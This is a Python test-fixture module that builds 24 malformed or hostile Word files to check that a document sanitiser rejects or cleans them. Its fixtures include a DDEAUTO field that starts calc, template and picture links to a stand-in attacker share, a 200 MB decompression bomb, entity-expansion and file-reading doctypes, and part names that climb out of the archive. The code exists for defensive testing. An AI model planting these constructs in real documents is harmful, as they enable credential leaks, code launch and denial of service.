"""The 24 bad Word files of the catalogue, made by code."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

from docx import Document

from tests.catalogue import zips
from tests.catalogue.case import Case
from tests.catalogue.picture_cases import chunk, claiming, plain
from tests.catalogue.xlsx_cases import AWAY, BILLION, FILE

MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
SECRETS = ("Secret Author", "witness")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SHARE = "\\\\attacker.invalid\\share"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
Make = Callable[[], bytes]
Parts = dict[str, bytes]


@cache
def good() -> bytes:
    """A letterhead as people make them: a head with a picture, a foot, some text, a gap."""
    document = Document()
    document.core_properties.author = SECRETS[0]
    document.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(plain()))
    document.sections[0].header.paragraphs[0].add_run("Ministry of {{country}}")
    document.sections[0].footer.paragraphs[0].text = "{{status}}"
    document.add_heading("{{plan title}}", 0)
    document.add_paragraph("{{document}}")
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def parts() -> Parts:
    """The parts of the good one, by name."""
    with zipfile.ZipFile(io.BytesIO(good())) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


def zipped(content: Parts) -> bytes:
    """A Word file of these parts."""
    return zips.zip_of([zips.deflated(name, data) for name, data in content.items()])


def put(part: str, before: str, more: str) -> Parts:
    """The good parts with ``more`` in one of them, in front of a text that must be there."""
    content = parts()
    assert before.encode() in content[part], part
    content[part] = content[part].replace(before.encode(), f"{more}{before}".encode(), 1)
    return content


def in_body(xml: str) -> Parts:
    """The good parts with more in the text."""
    return put(MAIN, "<w:sectPr", xml)


def related(id: str, kind: str, target: str, content: Parts, *, outside: bool = False) -> Parts:
    """The same with one more relation of the text."""
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="{id}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    rels = content[RELS].replace(b"</Relationships>", f"{row}</Relationships>".encode())
    return {**content, RELS: rels}


def run(inside: str, properties: str = "") -> str:
    """A paragraph of one run."""
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr>{inside}</w:r></w:p>"


def text(said: str, properties: str = "") -> str:
    """A paragraph of one text."""
    return run(f"<w:t>{said}</w:t>", properties)


def field(code: str) -> str:
    """A field whose code is cut in two."""
    marks = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    begin, middle, end = marks
    codes = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in (code[:4], code[4:]))
    return f"<w:p><w:r>{begin}</w:r><w:r>{codes}</w:r><w:r>{middle}<w:t>x</w:t>{end}</w:r></w:p>"


def with_doctype(part: str, doctype: str) -> bytes:
    """The good one with a document type in one part."""
    content = parts()
    head, _, rest = content[part].partition(b"?>")
    content[part] = head + b"?>" + doctype.encode() + rest
    return zipped(content)


def blown() -> bytes:
    """200 MB of text when unpacked, and the directory says so."""
    start = f"<w:document {W}><w:body>".encode()
    kept = [zips.stored(name, data) for name, data in parts().items() if name != MAIN]
    return zips.zip_of([*kept, zips.blown_up(MAIN, start, 200)])


def attached() -> bytes:
    """A template attached on a web server, and one on a share."""
    content = put(
        "word/settings.xml", "</w:settings>", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="t1"/>'
    )
    rows = "".join(
        f'<Relationship Id="t{n}" Type="{OFFICE}/attachedTemplate" Target="{target}" '
        'TargetMode="External"/>'
        for n, target in enumerate((f"{SHARE}\\t.dotm", f"{AWAY}/t.dotm"))
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = f'<Relationships xmlns="{space}">{rows}</Relationships>'
    return zipped({**content, "word/_rels/settings.xml.rels": rels.encode()})


def picture_elsewhere() -> bytes:
    """A picture that lies on a share."""
    space = "http://schemas.openxmlformats.org/drawingml/2006"
    shown = (
        f'<w:drawing><wp:inline xmlns:wp="{space}/wordprocessingDrawing"><wp:extent cx="9" cy="9"/>'
        f'<wp:docPr id="77" name="{SHARE}"/><a:graphic xmlns:a="{space}/main"><a:graphicData '
        f'uri="{space}/picture"><pic:pic xmlns:pic="{space}/picture"><pic:blipFill><a:blip '
        f'xmlns:r="{OFFICE}" r:link="away"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing>"
    )
    return zipped(related("away", "image", f"{SHARE}\\p.png", in_body(run(shown)), outside=True))


def macro() -> bytes:
    """A macro part beside the text."""
    content = related("m1", "vbaProject", "vbaProject.bin", parts())
    return zipped({**content, "word/vbaProject.bin": OLE})


def package() -> bytes:
    """An embedded object."""
    space = "urn:schemas-microsoft-com:office:office"
    link = f'<o:OLEObject xmlns:o="{space}" xmlns:r="{OFFICE}" r:id="o1"/>'
    shown = f"<w:object>{link}</w:object>"
    content = related("o1", "oleObject", "embeddings/oleObject1.bin", in_body(run(shown)))
    return zipped({**content, "word/embeddings/oleObject1.bin": OLE})


def vast_picture() -> bytes:
    """The head shows a picture of 30,000 x 30,000 dots."""
    content = parts()
    name = next(name for name in content if name.startswith("word/media/"))
    return zipped({**content, name: claiming(30_000, 30_000)})


def odd_names() -> bytes:
    """Parts that would land elsewhere."""
    odd = ("../../x", "//host/x", "/etc/x", "C:\\x")
    whole = [zips.stored(name, data) for name, data in parts().items()]
    return zips.zip_of([*whole, *(zips.stored(name, b"x") for name in odd)])


def in_a_circle() -> bytes:
    """Relations that lead back to where they are said."""
    content = related("self", "header", "document.xml", parts())
    content = related("rels", "image", "_rels/document.xml.rels", content)
    head = next(n for n in content if n.startswith("word/_rels/header"))
    own = head.replace("_rels/", "").replace(".rels", "").removeprefix("word/")
    row = f'<Relationship Id="me" Type="{OFFICE}/header" Target="{own}"/></Relationships>'
    content[head] = content[head].replace(b"</Relationships>", row.encode())
    shown = f'<w:headerReference w:type="even" xmlns:r="{OFFICE}" r:id="self"/>'
    content[MAIN] = content[MAIN].replace(b"<w:pgSz", f"{shown}<w:pgSz".encode(), 1)
    return zipped(content)


def telling() -> bytes:
    """Comments, tracked changes, names of authors and hidden text."""
    by = f'w:id="9" w:author="{SECRETS[0]}" w:date="2026-01-01T00:00:00Z"'
    witness = "<w:t>witness</w:t>"
    gone = f"<w:p><w:del {by}><w:r><w:delText>witness</w:delText></w:r></w:del></w:p>"
    new = f"<w:p><w:ins {by}><w:r><w:t>new words</w:t></w:r></w:ins></w:p>"
    moved = f"<w:p><w:moveFrom {by}><w:r>{witness}</w:r></w:moveFrom></w:p>"
    formed = text("kept", f"<w:rPrChange {by}><w:rPr/></w:rPrChange>")
    noted = '<w:p><w:r><w:commentReference w:id="0"/></w:r></w:p>'
    ruled = f'<w:p><w:r w:rsidR="00AA11BB"><w:t xml:space="preserve">{"kept"}</w:t></w:r></w:p>'
    shown = "".join((gone, new, moved, formed, noted, ruled, text("witness", "<w:vanish/>")))
    content = related("c1", "comments", "comments.xml", in_body(shown))
    comment = f"<w:comment {by}>{text('witness')}</w:comment>"
    content["word/comments.xml"] = f"<w:comments {W}>{comment}</w:comments>".encode()
    content[TYPES] = content[TYPES].replace(
        b"</Types>",
        f'<Override PartName="/word/comments.xml" ContentType="{WORDS}.comments+xml"/>'
        "</Types>".encode(),
    )
    return zipped(content)


def nested() -> bytes:
    """100,000 elements inside each other."""
    return zipped(in_body("<w:smartTag>" * 100_000 + "</w:smartTag>" * 100_000))


def crowded() -> bytes:
    """200,000 paragraphs."""
    return zipped(in_body("<w:p/>" * 200_000))


def broken_off() -> bytes:
    """A text that ends in the middle."""
    content = parts()
    return zipped({**content, MAIN: content[MAIN][: len(content[MAIN]) * 2 // 3]})


def old_word(stream: str) -> bytes:
    """An OLE file with a stream of this name."""
    return OLE + stream.encode("utf-16-le") + bytes(600)


def without(part: str) -> bytes:
    """The good one without one part."""
    return zipped({name: data for name, data in parts().items() if name != part})


def noisy_picture() -> bytes:
    """A picture with a comment in it, in the head."""
    content = parts()
    name = next(name for name in content if name.startswith("word/media/"))
    told = plain().replace(chunk(b"IEND", b""), chunk(b"tEXt", b"Author\0Secret Author"))
    return zipped({**content, name: told + chunk(b"IEND", b"")})


def _case(id: str, what: str, expected: str, make: Make, says: str = "", name: str = "") -> Case:
    def write(folder: Path, make: Make = make) -> Path:
        path = folder / (name or "letterhead.docx")
        path.write_bytes(make())
        return path

    return Case(id, what, frozenset(expected.split()), write, says)


CASES: tuple[Case, ...] = (
    _case("D001", "control: a good document", "ACCEPT", good, "can be used"),
    _case("D002", "0 bytes", "REJECT", bytes, "nothing in"),
    _case("D003", "cut at half", "REJECT", lambda: good()[: len(good()) // 2], "damaged"),
    _case("D004", "RTF renamed", "REJECT", lambda: b"{\\rtf1\\ansi Hello}", "Rich Text"),
    _case("D005", "old Word renamed", "REJECT", partial(old_word, "WordDocument"), "an old Word"),
    _case("D006", "no word/document.xml", "REJECT", partial(without, MAIN), "damaged"),
    _case("D007", "no [Content_Types].xml", "REJECT", partial(without, TYPES), "damaged"),
    _case("D008", "200 MB when unpacked", "REJECT", blown, "too large"),
    _case("D009", "entity expansion", "REJECT", partial(with_doctype, MAIN, BILLION), "no use"),
    _case("D010", "reads a file", "REJECT", partial(with_doctype, MAIN, FILE), "no use"),
    _case("D011", "the same in the types", "REJECT", partial(with_doctype, TYPES, FILE), "no use"),
    _case("D012", "templates attached elsewhere", "CLEAN", attached, "no longer named"),
    _case("D013", "a picture elsewhere", "CLEAN", picture_elsewhere, "lie elsewhere"),
    _case("D014", "a macro", "REJECT", macro, "macros"),
    _case("D015", "an embedded object", "REJECT", package, "other files inside"),
    _case("D016", "starts a program", "REJECT",
          lambda: zipped(in_body(field('DDEAUTO c:\\\\windows\\\\calc "x"'))), "other programs"),
    _case("D017", "100,000 nested elements", "REJECT", nested, "damaged"),
    _case("D018", "200,000 paragraphs", "REJECT", crowded, "too large"),
    _case("D019", "30,000 x 30,000 dots", "REJECT", vast_picture, "too many dots"),
    _case("D020", "part names that climb", "REJECT", odd_names, "no use"),
    _case("D021", "relations in a circle", "ACCEPT REJECT", in_a_circle),
    _case("D022", "comments, changes, authors, hidden text", "CLEAN", telling,
          "Comments.*Tracked.*Hidden"),
    _case("D023", "password", "REJECT", partial(old_word, "EncryptedPackage"), "password"),
    _case("D024", "breaks off", "REJECT", broken_off, "damaged"),
)  # fmt: skip
